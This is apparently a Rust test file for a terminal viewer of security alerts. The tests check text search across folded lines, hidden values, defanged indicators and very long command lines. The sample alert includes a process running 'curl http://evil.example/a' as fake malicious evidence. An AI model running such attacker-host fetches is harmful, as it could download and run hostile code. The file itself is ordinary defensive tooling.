//! Text search in an alert: folded lines, hidden values, and returning from the search.

use alertdeck::app::{Input, Key, KeyCode, Message};
use rstest::rstest;
use serde_json::{Value, json};

use super::{
    harness::{Harness, alert, theme, with},
    overview::{node, visible},
    screens::cells,
};

/// Returns an alert with a device, two processes in a chain, and a file whose signer no line shows.
fn story() -> Value {
    let kind = |name: &str| format!("#microsoft.graph.security.{name}Evidence");
    with(
        alert(1),
        json!({
            "description": "A tool that empties the mail box was started by a document from the net.",
            "evidence": [
                {"@odata.type": kind("device"), "deviceDnsName": "srv-1.contoso.com", "mdeDeviceId": "m1"},
                {"@odata.type": kind("process"), "processId": 10, "mdeDeviceId": "m1",
                    "processCreationDateTime": "2026-11-20T00:00:10Z", "imageFile": {"fileName": "word.exe"},
                    "processCommandLine": "word.exe C:\\Übung.doc"},
                {"@odata.type": kind("process"), "processId": 20, "parentProcessId": 10, "mdeDeviceId": "m1",
                    "processCreationDateTime": "2026-11-20T00:00:20Z",
                    "parentProcessCreationDateTime": "2026-11-20T00:00:10Z",
                    "processCommandLine": "curl http://evil.example/a", "imageFile": {"fileName": "curl.exe",
                    "filePublisher": "Contoso Signing CA"}},
                {"@odata.type": kind("ip"), "ipAddress": "203.0.113.9"},
            ],
        }),
    )
}

fn typing(console: &mut Harness, text: &str) {
    console.keys("/");
    console.type_text(text);
}

/// Returns the position among the hits, and the name of the node under the cursor.
fn position(console: &Harness) -> (String, String) {
    let find = console.app.current_detail().unwrap().find.as_ref().unwrap();
    (format!("{} of {}", find.number().unwrap_or(0), find.count()), node(console))
}

#[rstest]
#[case::case_is_ignored("CURL.EXE", "1 of 1", "curl.exe (20)")]
#[case::letters_beyond_ascii("übung", "1 of 1", "word.exe (10)")]
#[case::hidden_value("signing ca", "1 of 1", "curl.exe (20)")]
#[case::defanged("hxxp://evil[.]example", "1 of 1", "curl.exe (20)")]
#[case::defanged_address("203[.]0[.]113[.]9", "1 of 1", "203.0.113.9")]
#[case::across_lines("mail box was started by a document", "1 of 1", "")]
#[case::type_and_name_are_separate("process w", "0 of 0", "")]
#[case::type_alone("process", "1 of 2", "word.exe (10)")]
#[case::not_across_values("curl.exe contoso", "0 of 0", "")]
#[case::type_names_are_ignored("microsoft.graph", "0 of 0", "")]
#[case::only_spaces("  ", "0 of 0", "")]
fn texts_are_found_everywhere(#[case] text: &str, #[case] count: &str, #[case] at: &str) {
    let mut console = Harness::with_alerts(&[story()]);
    console.resize(90, 40);
    console.keys("Enter");
    // Folded lines are searched too.
    console.keys("-");
    typing(&mut console, text);
    assert_eq!(position(&console), (count.into(), at.into()));
}

#[test]
fn hit_unfolds_its_parents_and_esc_restores_the_folds() {
    let mut console = Harness::with_alerts(&[story()]);
    console.keys("Enter j - g j j");
    let (before, scroll) = (visible(&console), console.app.detail.shown.as_ref().unwrap().scroll);
    assert!(!before.iter().any(|name| name.contains("curl")), "{before:?}");
    typing(&mut console, "curl.exe");
    assert!(visible(&console).iter().any(|name| name.contains("curl")));
    // Each letter searches again from the origin.
    console.type_text("x");
    assert_eq!(
        (visible(&console), console.app.detail.shown.as_ref().unwrap().scroll),
        (before.clone(), scroll)
    );
    console.keys("Backspace");
    assert_eq!(node(&console), "curl.exe (20)");
    console.keys("Esc");
    assert_eq!((visible(&console), console.app.detail.shown.as_ref().unwrap().scroll), (before, scroll));
    assert!(console.app.detail.shown.as_ref().unwrap().find.is_none());
}

#[test]
fn enter_keeps_the_hit_and_hits_wrap_around() {
    let mut console = Harness::with_alerts(&[story()]);
    console.keys("Enter n");
    assert_eq!(console.notice(), "no active search (press /)");
    typing(&mut console, "exe");
    console.keys("Enter");
    assert_eq!(position(&console), ("1 of 2".into(), "word.exe (10)".into()));
    console.keys("n");
    assert_eq!(position(&console), ("2 of 2".into(), "curl.exe (20)".into()));
    console.keys("n");
    assert_eq!(position(&console), ("1 of 2".into(), "word.exe (10)".into()));
    console.keys("N");
    assert_eq!(position(&console), ("2 of 2".into(), "curl.exe (20)".into()));
    // Esc first ends the search, then leaves the pane.
    console.keys("Esc");
    assert!(console.app.detail.shown.as_ref().unwrap().find.is_none());
    assert_eq!(node(&console), "curl.exe (20)");
    console.keys("/ x Ctrl-c");
    assert!(console.app.find_editor().is_none() && console.effects.is_empty());
}

#[test]
fn arrows_move_between_hits_while_letters_are_text() {
    let mut console = Harness::with_alerts(&[story()]);
    console.keys("Enter");
    typing(&mut console, "exe");
    console.keys("↓");
    assert_eq!(position(&console), ("2 of 2".into(), "curl.exe (20)".into()));
    console.keys("Ctrl-p");
    assert_eq!(position(&console).0, "1 of 2");
    console.keys("Ctrl-u");
    console.type_text("qnN?");
    assert_eq!(console.app.find_editor().unwrap().text(), "qnN?");
    assert!(console.effects.is_empty() && console.app.ui.overlay().is_none());
    assert!(console.screen().contains("not found"), "{}", console.screen());
    console.keys("Ctrl-u");
    console.paste("evil.example\r\n");
    assert_eq!(
        (console.app.find_editor().unwrap().text(), node(&console).as_str()),
        ("evil.example", "curl.exe (20)")
    );
    assert_eq!(console.app.filter.text(), "", "the filter is unchanged");
    // Leaving the pane keeps the search.
    let list = console.app.layout().list.unwrap();
    console.send(Message::Input(Input::Click { x: list.x, y: list.y }));
    assert!(console.app.find_editor().is_none());
    console.send(Message::Input(Input::Key(Key::new(KeyCode::Tab))));
    console.keys("n");
    assert_eq!(position(&console), ("1 of 1".into(), "curl.exe (20)".into()));
}

#[test]
fn line_shows_a_hidden_hit_with_its_property() {
    let mut console = Harness::with_alerts(&[story()]);
    console.resize(100, 30);
    console.keys("Enter");
    typing(&mut console, "signing");
    let buffer = console.draw(&theme());
    let line = super::harness::lines(&buffer).into_iter().find(|line| line.contains("curl.exe")).unwrap();
    assert!(line.contains("… imageFile.filePublisher: Contoso Signing CA"), "{line}");
    let (hit, beside) = (cells(&buffer, "Signing")[0], cells(&buffer, "Contoso Signing")[0]);
    assert_ne!(hit.fg, beside.fg, "the hit is highlighted");
    console.keys("Ctrl-u");
    console.type_text("word");
    let screen = console.screen();
    assert!(!screen.contains("… processCommandLine"), "a visible hit needs no excerpt: {screen}");
}

#[test]
fn search_continues_in_the_next_alert() {
    let mut console =
        Harness::with_alerts(&[story(), with(story(), json!({"id": "other", "description": "curl"}))]);
    console.keys("Enter");
    typing(&mut console, "curl");
    console.keys("Enter");
    let first = position(&console).0;
    console.keys("J n");
    assert_ne!(console.selected(), Some("a1"), "{:?}", console.rows());
    assert!(console.app.current_detail().unwrap().find.as_ref().unwrap().count() > 0, "{first}");
    for (width, height) in [(60, 15), (30, 8), (200, 50)] {
        console.resize(width, height);
        console.keys("n");
        assert!(console.app.current_detail().unwrap().find.as_ref().unwrap().number().is_some());
    }
}

#[test]
fn json_and_timeline_are_searched_as_shown() {
    let mut console = Harness::with_alerts(&[story()]);
    console.keys("Enter v");
    typing(&mut console, "filePublisher");
    assert_eq!(position(&console).0, "1 of 1", "JSON includes names");
    console.keys("Enter v");
    assert_eq!(position(&console).0, "0 of 0");
    console.keys("Esc t");
    typing(&mut console, "alert created");
    assert_eq!(position(&console).0, "1 of 1");
}

#[test]
fn slash_edits_the_filter_in_the_list() {
    let mut console = Harness::with_alerts(&[story()]);
    console.keys("/");
    assert!(console.app.filter.editor.is_some() && console.app.find_editor().is_none());
}

/// Returns an alert with text that is longer than a line and has no spaces.
fn long_words() -> Value {
    let url = format!("https://evil.example/{}/needle/{}", "0123456789".repeat(12), "abcdefghij".repeat(8));
    with(
        alert(1),
        json!({
            "description": format!("Fetched {url} twice."),
            "evidence": [{"@odata.type": "#microsoft.graph.security.urlEvidence", "url": url}],
        }),
    )
}

/// Returns the highlighted text of each line.
fn highlighted(console: &Harness) -> Vec<String> {
    let (theme, buffer) = (theme(), console.draw(&theme()));
    let area = console.app.layout().detail.unwrap();
    let line = |y: u16| -> String {
        let cells = (area.x..area.x + area.width).map(|x| &buffer[(x, y)]);
        cells.filter(|cell| Some(cell.fg) == theme.found.fg).map(ratatui::buffer::Cell::symbol).collect()
    };
    (area.y..area.y + area.height).map(line).filter(|line| !line.trim().is_empty()).collect()
}

#[rstest]
#[case::alert("")]
#[case::json("v")]
fn text_broken_across_lines_is_found_and_highlighted(#[case] view: &str) {
    for width in [60, 80, 97, 200] {
        let mut console = Harness::with_alerts(&[long_words()]);
        console.resize(width, 50);
        console.keys("Enter");
        console.keys(view);
        let text = format!("{}/needle/abc", "0123456789".repeat(9));
        typing(&mut console, &text);
        let find = console.app.current_detail().unwrap().find.as_ref().unwrap();
        assert_eq!((find.count(), find.may_be_more()), (2, false), "{width} {view}");
        let found = highlighted(&console).concat();
        assert!(found.contains(&text), "{width}: {found}");
    }
}

#[test]
fn sentence_is_highlighted_on_all_its_lines() {
    let mut console = Harness::with_alerts(&[story()]);
    console.resize(60, 30);
    console.keys("Enter");
    typing(&mut console, "mail box was started by a document from the");
    assert_eq!(highlighted(&console).join(" "), "mail box was started by a document from the");
}

#[test]
fn text_beyond_the_layout_limit_is_searched() {
    let text = format!("{} the end of it\nand a line more", "much ado about nothing ".repeat(4_000));
    let mut console = Harness::with_alerts(&[with(alert(1), json!({"description": text}))]);
    console.keys("Enter");
    typing(&mut console, "the end of it");
    assert_eq!(position(&console).0, "1 of 1");
    let screen = console.screen();
    assert!(screen.contains("1 of 1+"), "there may be more hits: {screen}");
    assert!(screen.contains("kB more: …"), "{screen}");
    assert_eq!(highlighted(&console), ["the end of it"]);
    // Text that crosses the limit is found.
    console.keys("Ctrl-u");
    let bound = &text[64 * 1024 - 12..64 * 1024 + 12];
    console.type_text(bound.trim());
    assert!(console.app.current_detail().unwrap().find.as_ref().unwrap().count() > 0, "{bound}");
    console.keys("Ctrl-u");
    console.type_text("ado");
    assert!(console.screen().contains("+ "), "{}", console.screen());
    console.keys("Ctrl-u");
    console.type_text("not in it");
    assert!(console.screen().contains("not found"));
}

#[test]
fn end_of_a_long_command_line_is_found_and_shown() {
    let evidence = json!([{"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 1,
        "imageFile": {"fileName": "a.exe"},
        "processCommandLine": format!("a.exe {} --needle", "x".repeat(1_000_000))}]);
    let mut console = Harness::with_alerts(&[with(alert(1), json!({"evidence": evidence}))]);
    console.keys("Enter");
    typing(&mut console, "--NEEDLE");
    assert_eq!(position(&console).0, "1 of 1");
    assert_eq!(highlighted(&console), ["--needle"]);
    // Only the first megabyte of JSON is laid out.
    console.keys("Enter v");
    assert_eq!(position(&console).0, "0 of 1");
    console.keys("n");
    assert_eq!(highlighted(&console), ["--needle"]);
}

#[test]
fn long_pasted_search_text_is_cut_with_a_notice() {
    let mut console = Harness::with_alerts(&[story()]);
    console.keys("Enter /");
    console.paste(&"übung ".repeat(500_000));
    assert_eq!(console.app.find_editor().unwrap().text().chars().count(), 1_000);
    assert_eq!(console.notice(), "search text cut to 1,000 characters");
    assert!(console.screen().contains("not found"), "{}", console.screen());
    console.keys("Ctrl-u u");
    assert_eq!(position(&console).0, "1 of 5");
}

#[test]
fn line_with_a_hidden_hit_shows_no_counts() {
    let mut console = Harness::with_alerts(&[story()]);
    console.keys("Enter");
    typing(&mut console, "signing");
    for width in 50..120 {
        console.resize(width, 30);
        let screen = console.screen();
        let line = screen.lines().find(|line| line.contains("cur") && line.contains(": ")).unwrap();
        assert!(line.ends_with("Signing CA") || line.ends_with('…'), "{width}: {line}");
    }
}

#[test]
fn techniques_are_found_by_name() {
    let mut console = Harness::with_alerts(&[with(alert(1), json!({"mitreTechniques": ["T1059.001"]}))]);
    console.keys("Enter");
    for text in ["powershell", "command and scripting", "execution", "t1059.001"] {
        typing(&mut console, text);
        assert_eq!(console.app.current_detail().unwrap().find.as_ref().unwrap().count(), 1, "{text}");
        console.keys("Esc");
    }
}
